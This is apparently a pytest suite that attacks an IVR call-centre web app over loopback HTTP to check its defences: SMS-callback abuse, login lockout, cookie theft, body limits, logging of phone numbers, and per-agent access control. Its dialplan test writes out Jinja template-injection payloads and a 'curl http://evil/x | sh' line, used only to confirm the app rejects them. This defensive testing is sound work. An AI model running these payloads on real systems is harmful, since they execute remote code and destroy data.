"""Attacks on the web app over real HTTP (uvicorn on a loopback port, httpx as the attacker).

Call bombing and toll fraud through the public chat callback, password guessing and user enumeration,
stolen session cookies, oversized bodies, and personal data in the access log.
"""

from __future__ import annotations

import asyncio
import contextlib
import logging
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import argon2
import httpx
import pytest
import uvicorn
from sqlalchemy import select

from ivr.clock import VirtualClock
from ivr.nlu.holder import KnowledgeHolder
from ivr.nlu.matcher import Matcher
from ivr.probe.ports import free_port
from ivr.store.db import Database, migrate
from ivr.store.models import CallbackRow
from ivr.store.users import UserRepository
from ivr.testing.lab import make_settings
from ivr.testing.web import FakeLiveCalls, FakeSmsOutbox, add_user
from ivr.web.app import create_app
from ivr.web.auth import hash_password
from ivr.web.context import WebContext

pytestmark = pytest.mark.slow


def no_matcher() -> Matcher:
    """These attacks never reach the matcher (no sentence encoder loaded)."""
    raise AssertionError("the matcher is not part of these tests")


@dataclass
class Site:
    """The running app and what the test inspects."""

    url: str
    ctx: WebContext
    outbox: FakeSmsOutbox
    clock: VirtualClock


@contextlib.asynccontextmanager
async def serve(tmp: Path, **sections: dict[str, Any]) -> AsyncIterator[Site]:
    """Serve the real app (real SQLite, real knowledge base) on a free loopback port."""
    settings = make_settings(tmp, **sections)
    await migrate(settings.database_url)
    db = Database(settings.database_url)
    outbox, clock = FakeSmsOutbox(), VirtualClock()
    holder = await asyncio.to_thread(KnowledgeHolder, settings.paths.knowledge_dir)
    ctx = WebContext(settings=settings, sessions=db.sessions, knowledge=holder, matcher=no_matcher,
                     live=FakeLiveCalls(), send_sms=outbox.send, clock=clock)
    for name, role in (("agent1", "agent"), ("agent2", "agent"), ("sup", "supervisor"), ("admin", "admin")):
        await add_user(ctx, name, role, "motdepasse-" + name)
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(create_app(ctx), host="127.0.0.1", port=port, log_level="info",
                                           lifespan="on"))
    task = asyncio.create_task(server.serve())
    try:
        while not server.started:
            if task.done():
                task.result()
            await asyncio.sleep(0.02)
        yield Site(f"http://127.0.0.1:{port}", ctx, outbox, clock)
    finally:
        server.should_exit = True
        await task
        await db.close()


@pytest.fixture
async def site(tmp_path: Path) -> AsyncIterator[Site]:
    async with serve(tmp_path) as s:
        yield s


def _csrf(html: str) -> str:
    m = re.search(r'name="csrf-token" content="([^"]+)"', html)
    assert m, "page has no CSRF token"
    return m.group(1)


@contextlib.asynccontextmanager
async def browser(site: Site, ip: str = "127.0.0.1") -> AsyncIterator[httpx.AsyncClient]:
    """A client with its CSRF cookie; ``ip`` picks the loopback source address (another attacker)."""
    transport = httpx.AsyncHTTPTransport(local_address=ip)
    async with httpx.AsyncClient(base_url=site.url, transport=transport) as c:
        c.headers["X-CSRF-Token"] = _csrf((await c.get("/chat")).text)
        yield c


async def callbacks(site: Site) -> list[CallbackRow]:
    async with site.ctx.sessions() as s:
        return list((await s.scalars(select(CallbackRow).order_by(CallbackRow.id))).all())


def _code(site: Site) -> str:
    m = re.search(r"\b(\d{6})\b", site.outbox.sent[-1].text)
    assert m
    return m.group(1)


async def test_chat_callback_needs_the_sms_code_and_refuses_costly_numbers(site: Site) -> None:
    async with browser(site) as c:
        for phone in ("+44 7400 123456", "08 99 12 34 56", "08 10 12 34 56", "01 99 00 10 00", "3615"):
            r = await c.post("/api/chat/callback", json={"name": "Mallory", "phone": phone})
            assert r.status_code == 422, phone
        assert site.outbox.sent == [], "nothing texted to refused numbers"

        r = await c.post("/api/chat/callback", json={"name": "Émilie", "phone": "06 12 34 56 78",
                                                     "service": "etat_civil", "question": "acte de naissance"})
        assert r.status_code == 200 and r.json()["confirm"] is True
        token = r.json()["token"]
        assert site.outbox.sent[-1].number == "+33612345678"
        assert await callbacks(site) == [], "nothing scheduled before the code comes back"

        wrong = "000000" if _code(site) != "000000" else "111111"
        r = await c.post("/api/chat/callback/confirm", json={"token": token, "code": wrong})
        assert r.status_code == 422 and await callbacks(site) == []
        r = await c.post("/api/chat/callback/confirm", json={"token": token, "code": _code(site)})
        assert r.status_code == 200 and r.json()["ok"]
        rows = await callbacks(site)
        assert [(x.number, x.service, x.status) for x in rows] == [("+33612345678", "etat_civil", "pending")]
        assert "acte de naissance" in (rows[0].summary or "")
        r = await c.post("/api/chat/callback/confirm", json={"token": token, "code": _code(site)})
        assert r.status_code == 422, "a code works once"

        # one pending callback per number: asking again sends no new code
        sent = len(site.outbox.sent)
        r = await c.post("/api/chat/callback", json={"name": "Émilie", "phone": "+33 6 12 34 56 78"})
        assert r.status_code == 429 and len(site.outbox.sent) == sent


async def test_guessing_the_code_drops_the_request(site: Site) -> None:
    async with browser(site) as c:
        r = await c.post("/api/chat/callback", json={"name": "X", "phone": "06 11 11 11 11"})
        token, code = r.json()["token"], _code(site)
        wrong = [f"{n:06d}" for n in range(10) if f"{n:06d}" != code][:3]
        for guess in wrong:
            assert (await c.post("/api/chat/callback/confirm", json={"token": token, "code": guess})).status_code == 422
        r = await c.post("/api/chat/callback/confirm", json={"token": token, "code": code})
        assert r.status_code == 422 and await callbacks(site) == []


async def test_call_bombing_is_rate_limited_per_address_and_per_number(site: Site) -> None:
    async with browser(site, "127.0.0.1") as c:
        codes = [await c.post("/api/chat/callback", json={"name": "X", "phone": f"06 20 00 00 0{i}"})
                 for i in range(7)]
        assert [r.status_code for r in codes] == [200] * 5 + [429] * 2
    async with browser(site, "127.0.0.2") as c2, browser(site, "127.0.0.3") as c3:
        victim = "07 50 00 00 00"
        statuses = [(await cl.post("/api/chat/callback", json={"name": "X", "phone": victim})).status_code
                    for cl in (c2, c3, c2, c3)]
        assert statuses == [200, 200, 200, 429], "a victim's phone does not get more than 3 codes an hour"
    site.clock.advance(3601)
    async with browser(site, "127.0.0.1") as c:
        assert (await c.post("/api/chat/callback", json={"name": "X", "phone": "06 20 00 00 09"})).status_code == 200


async def _login(c: httpx.AsyncClient, name: str, password: str) -> httpx.Response:
    return await c.post("/login", data={"name": name, "password": password})


async def test_password_guessing_locks_the_name_and_the_address(site: Site) -> None:
    async with browser(site, "127.0.0.4") as c:
        assert [(await _login(c, "admin", f"guess{i}")).status_code for i in range(5)] == [401] * 5
        r = await _login(c, "admin", "motdepasse-admin")
        assert r.status_code == 429, "locked even with the right password"
    async with browser(site, "127.0.0.5") as other:
        assert (await _login(other, "admin", "motdepasse-admin")).status_code == 429, "the name is locked"
        assert (await _login(other, "agent1", "motdepasse-agent1")).status_code == 303
    async with browser(site, "127.0.0.6") as c:
        for i in range(20):
            await _login(c, f"user{i}", "x")
        assert (await _login(c, "agent1", "motdepasse-agent1")).status_code == 429, "the address is locked"
    site.clock.advance(901)
    async with browser(site, "127.0.0.4") as c:
        assert (await _login(c, "admin", "motdepasse-admin")).status_code == 303


async def test_unknown_user_costs_the_same_as_a_wrong_password(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """An unknown name costs one argon2 verification with a real account's parameters, like a wrong password.

    The work is counted, not timed: on the shared machine the two timed series (one after the other) differed
    3x from load alone (unknown 0.32 s, known 0.96 s), while without the dummy hash an unknown name would do
    no argon2 at all (one SELECT: ~50x faster).
    """
    from ivr.web import auth

    real = auth._hasher
    verified: list[argon2.Parameters] = []

    class CountingHasher:
        def verify(self, password_hash: str, password: str) -> bool:
            verified.append(argon2.extract_parameters(password_hash))
            return real.verify(password_hash, password)

    monkeypatch.setattr(auth, "_hasher", CountingHasher())
    for name in ("agent1", "nobody1"):
        async with browser(site, "127.0.0.7") as c:
            assert (await _login(c, name, "wrong-password")).status_code == 401
    # one verification each: the unknown name is not answered before the work, and the same work
    assert len(verified) == 2, f"{len(verified)} argon2 verification(s) for a known and an unknown name"
    known, unknown = verified
    assert unknown == known


async def test_logout_and_password_change_kill_copied_cookies(site: Site) -> None:
    async with browser(site) as c:
        assert (await _login(c, "admin", "motdepasse-admin")).status_code == 303
        stolen = c.cookies.get("ivr_session")
        assert (await c.get("/admin")).status_code == 200
        c.headers["X-CSRF-Token"] = _csrf((await c.get("/chat")).text)
        assert (await c.post("/logout")).status_code == 303
    async with httpx.AsyncClient(base_url=site.url, cookies={"ivr_session": stolen or ""}) as thief:
        assert (await thief.get("/admin")).status_code == 303, "the copied cookie died with the logout"

    async with browser(site) as c:
        assert (await _login(c, "agent1", "motdepasse-agent1")).status_code == 303
        assert (await c.get("/agent")).status_code == 200
        await UserRepository(site.ctx.sessions).set_password_hash("agent1", hash_password("nouveau-secret-1"))
        assert (await c.get("/agent")).status_code == 303, "a password change ends open sessions"


async def test_headers_body_limit_and_secure_cookie_outside_loopback(site: Site, tmp_path: Path) -> None:
    async with browser(site) as c:
        page = await c.get("/login")
        csp = page.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
        assert page.headers["referrer-policy"] == "no-referrer"
        async with httpx.AsyncClient(base_url=site.url) as fresh:
            cookie = (await fresh.get("/login")).headers["set-cookie"].lower()
            assert "secure" not in cookie, "plain http on loopback (dev)"
        big = b'{"text": "' + b"a" * 2_000_000 + b'"}'
        r = await c.post("/api/chat", content=big, headers={"content-type": "application/json"})
        assert r.status_code == 413

        async def chunks() -> AsyncIterator[bytes]:
            for _ in range(40):
                yield b"x" * 65536

        r = await c.post("/api/chat", content=chunks(), headers={"content-type": "application/json"})
        assert r.status_code == 413, "a chunked body without Content-Length is capped too"

    async with serve(tmp_path / "public", web={"host": "192.0.2.10"}) as public, \
            httpx.AsyncClient(base_url=public.url) as c:
        cookie = (await c.get("/login")).headers["set-cookie"].lower()
        assert "secure" in cookie and "httponly" in cookie


async def test_access_log_carries_no_number(site: Site, caplog: pytest.LogCaptureFixture) -> None:
    async with browser(site) as c:
        await _login(c, "agent1", "motdepasse-agent1")
        with caplog.at_level(logging.INFO, logger="uvicorn.access"):
            await c.get("/api/agent/lookup", params={"number": "+33612345678"})
            await c.get("/api/agent/lookup?number=0612345678")
    lines = [r.getMessage() for r in caplog.records if r.name == "uvicorn.access"]
    assert any("/api/agent/lookup" in line for line in lines), lines
    assert not any("612345678" in line for line in lines), lines


async def test_dialplan_validate_runs_no_code_and_shows_no_secret(site: Site, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    secrets = site.ctx.settings.secrets
    base = (site.ctx.settings.paths.dialplans_dir / "extensions.conf.j2").read_text()
    async with browser(site) as c:
        assert (await _login(c, "admin", "motdepasse-admin")).status_code == 303
        c.headers["X-CSRF-Token"] = _csrf((await c.get("/admin/dialplan")).text)

        async def validate(text: str) -> str:
            r = await c.post("/admin/dialplan/validate", data={"text": text})
            assert r.status_code == 200
            return r.text

        out = await validate(base + f"; {{{{ lipsum.__globals__.os.popen('touch {marker}').read() }}}}\n")
        assert not marker.exists(), "validate ran a shell command"
        assert "template" in out and "Syntaxe correcte" not in out
        out = await validate(base + "; {{ cycler.__init__.__globals__.os.system('id') }}\n")
        assert "Syntaxe correcte" not in out
        for secret_name in ("ami_password", "ari_password", "agent_password", "agent_passwords"):
            out = await validate(base + f"[leak]\nexten => s,1,NoOp({{{{ {secret_name} }}}})\n")
            assert "Syntaxe correcte" not in out, secret_name
        for line in ("exten => s,1,System(curl http://evil/x | sh)", "exten => s,1,TrySystem(id)",
                     "exten => s,1,MixMonitor(x.wav,,rm -rf /)", "exten => s,1,Set(X=${SHELL(id)})",
                     "exten => s,1,ExecIf($[1]?System(id))"):
            out = await validate(base + f"[evil]\n{line}\n")
            assert "not allowed" in out, line
        assert "Syntaxe correcte" in await validate(base)
        every = (await c.get("/admin/dialplan")).text + out
        for value in (secrets.ami_password, secrets.ari_password, secrets.agent_password):
            assert value not in every


async def test_agents_see_and_text_only_their_own_calls_and_every_access_is_audited(site: Site) -> None:
    from datetime import timedelta

    from ivr.store.audit import AuditLog
    from ivr.store.callers import CallerKeys
    from ivr.store.calls import CallRepository

    calls, now = CallRepository(site.ctx.sessions), site.clock.now()
    keys = CallerKeys(site.ctx.settings.secrets.caller_key)  # numbers are looked up by this key, as stored
    # agent1 sits in accueil + etat_civil, agent2 in accueil only (the default agent_services)
    await calls.create_call(call_id="ec-live", channel_id="c1", started_at=now, caller_number="+33611111111",
                            lang="fr", caller_key=keys.key("+33611111111"))
    await calls.update_call("ec-live", summary="Acte de naissance", service="etat_civil")
    await calls.create_call(call_id="ec-old", channel_id="c2", started_at=now - timedelta(days=3),
                            caller_number="+33622222222", lang="fr", caller_key=keys.key("+33622222222"))
    await calls.update_call("ec-old", service="etat_civil")
    await calls.finish_call("ec-old", ended_at=now - timedelta(days=3), outcome="transferred", summary="x")
    await calls.add_event("ec-old", at=now - timedelta(days=3), kind="agent_answered",
                          data={"service": "etat_civil", "wait_s": 12, "agent": "agent2"})

    async def as_user(name: str) -> httpx.AsyncClient:
        c = httpx.AsyncClient(base_url=site.url)
        c.headers["X-CSRF-Token"] = _csrf((await c.get("/login")).text)
        assert (await _login(c, name, "motdepasse-" + name)).status_code == 303
        c.headers["X-CSRF-Token"] = _csrf((await c.get("/chat")).text)
        return c

    a1, a2, sup = await as_user("agent1"), await as_user("agent2"), await as_user("sup")
    try:
        # agent2 is not in etat_civil: the live call is "unknown" to them, by id, by number, live or by SMS
        assert (await a2.get("/api/agent/call/ec-live")).status_code == 404
        assert (await a2.get("/api/agent/lookup", params={"number": "+33611111111"})).status_code == 404
        r = await a2.get("/agent/stream", params={"call_id": "ec-live"})
        assert "refused" in r.text and "connected" not in r.text
        r = await a2.post("/api/agent/sms", json={"call_id": "ec-live", "template": "callback"})
        assert r.status_code == 404 and site.outbox.sent == []
        # ...but the call agent2 answered three days ago is theirs
        assert (await a2.get("/api/agent/call/ec-old")).status_code == 200
        # agent1 (etat_civil) sees the live call, not the old one answered by someone else
        assert (await a1.get("/api/agent/call/ec-live")).json()["summary"] == "Acte de naissance"
        assert (await a1.get("/api/agent/call/ec-old")).status_code == 404
        # supervisors see every call
        for call_id in ("ec-live", "ec-old"):
            assert (await sup.get(f"/api/agent/call/{call_id}")).status_code == 200

        # SMS: templates only, never free text from the city's sender
        r = await a1.post("/api/agent/sms", json={"call_id": "ec-live", "text": "Gagnez un iPhone: http://evil"})
        assert r.status_code == 422
        r = await a1.post("/api/agent/sms", json={"call_id": "ec-live", "template": "free", "intent": None})
        assert r.status_code == 422
        r = await a1.post("/api/agent/sms", json={"call_id": "ec-live", "template": "link", "intent": "passport"})
        assert r.status_code == 200, r.text
        [sms] = site.outbox.sent
        assert sms.number == "+33611111111" and "passeport" in sms.text.lower() and "http" in sms.text
    finally:
        for c in (a1, a2, sup):
            await c.aclose()

    trail = [(e.actor, e.action, e.call_id) for e in reversed(await AuditLog(site.ctx.sessions).recent())]
    assert ("agent2", "read_call_refused", "ec-live") in trail
    assert ("agent2", "lookup_refused", "ec-live") in trail
    assert ("agent2", "follow_refused", "ec-live") in trail
    assert ("agent2", "read_call", "ec-old") in trail
    assert ("sup", "read_call", "ec-old") in trail
    assert ("agent1", "sms", "ec-live") in trail
    assert all("+336" not in e.detail for e in await AuditLog(site.ctx.sessions).recent())
